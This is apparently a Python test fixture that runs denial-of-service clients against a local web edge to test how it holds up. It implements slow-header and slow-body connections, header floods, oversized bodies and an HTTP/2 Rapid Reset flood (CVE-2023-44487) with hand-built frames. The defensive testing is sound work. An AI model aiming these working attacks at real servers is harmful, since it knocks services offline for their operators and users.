"""Clients that attack an edge, over plain sockets since no client library does such things.

Each runs as a process of its own, `python -m tests.fakes.attackers ATTACK PORT`, so that the test that measures beside it has
its event loop for itself. It goes on until it is killed.
"""

import asyncio
import contextlib
import sys
from collections.abc import Awaitable, Callable

SLOW_CONNECTIONS = 300
FLOOD_CONNECTIONS = 4
"""Enough to keep a core of the edge busy, and not more than a test's machine has besides."""
PATH = b"/api/v1/plans"
"""A call that needs no token, and so comes as far as a service."""
_PAUSE_SECONDS = 0.005
_RECONNECTION_SECONDS = 0.25
"""How long an attacker whose connection was cut needs to be back, such as over a network."""

Attack = Callable[[int], Awaitable[None]]


async def slow_headers(port: int) -> None:
    """Opens connections whose headers never end, a line at a time; a connection that is cut is opened again."""

    async def one() -> None:
        while True:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(b"GET " + PATH + b" HTTP/1.1\r\nhost: a\r\n")
            answer = asyncio.ensure_future(reader.readline())
            while not answer.done():
                writer.write(b"x-more: 1\r\n")
                await asyncio.wait([answer], timeout=0.5)
            with contextlib.suppress(ConnectionError):
                answer.result()
            writer.close()

    await asyncio.gather(*(one() for _ in range(SLOW_CONNECTIONS)))


async def slow_bodies(port: int) -> None:
    """Opens connections whose bodies never end."""

    async def one() -> None:
        while True:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            head = b"POST /api/v1/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 10000"
            writer.write(head + b"\r\n\r\n")
            answer = asyncio.ensure_future(reader.readline())
            while not answer.done():
                writer.write(b" ")
                await asyncio.wait([answer], timeout=0.5)
            with contextlib.suppress(ConnectionError):
                answer.result()
            writer.close()

    await asyncio.gather(*(one() for _ in range(SLOW_CONNECTIONS)))


async def header_flood(port: int) -> None:
    """Sends requests with a thousand headers, which are more than the edge takes."""
    headers = b"".join(b"x-%d: %s\r\n" % (number, b"y" * 50) for number in range(1000))
    await _repeated(port, b"GET " + PATH + b" HTTP/1.1\r\nhost: a\r\n" + headers + b"\r\n")


async def large_bodies(port: int) -> None:
    """Sends bodies of eight megabytes where four are taken, and says so beforehand."""
    body = b"x" * (8 << 20)
    head = (
        b"POST /api/v1/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: %d\r\n\r\n"
    )
    await _repeated(port, head % len(body) + body)


async def rapid_reset(port: int) -> None:
    """Opens streams of HTTP/2 and resets each at once (CVE-2023-44487)."""
    block = b"\x82\x86\x41\x01a\x44" + bytes([len(PATH)]) + PATH

    async def one() -> None:
        while True:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            # The preface, and settings without any.
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
            stream = 1
            with contextlib.suppress(ConnectionError):
                while not writer.is_closing():
                    frames = []
                    for _ in range(100):
                        # HEADERS with END_HEADERS and END_STREAM, then RST_STREAM with CANCEL.
                        frames += [_frame(1, 5, stream, block), _frame(3, 0, stream, (8).to_bytes(4))]
                        stream += 2
                    writer.write(b"".join(frames))
                    await writer.drain()
                    await asyncio.sleep(_PAUSE_SECONDS)
            writer.close()
            await asyncio.sleep(_RECONNECTION_SECONDS)

    await asyncio.gather(*(one() for _ in range(FLOOD_CONNECTIONS)))


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack for attack in (slow_headers, slow_bodies, header_flood, large_bodies, rapid_reset)
}


async def _repeated(port: int, request: bytes) -> None:
    async def one() -> None:
        while True:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            with contextlib.suppress(ConnectionError):
                writer.write(request)
                await reader.readline()
            writer.close()
            await asyncio.sleep(_PAUSE_SECONDS)

    await asyncio.gather(*(one() for _ in range(FLOOD_CONNECTIONS)))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](int(sys.argv[2])))
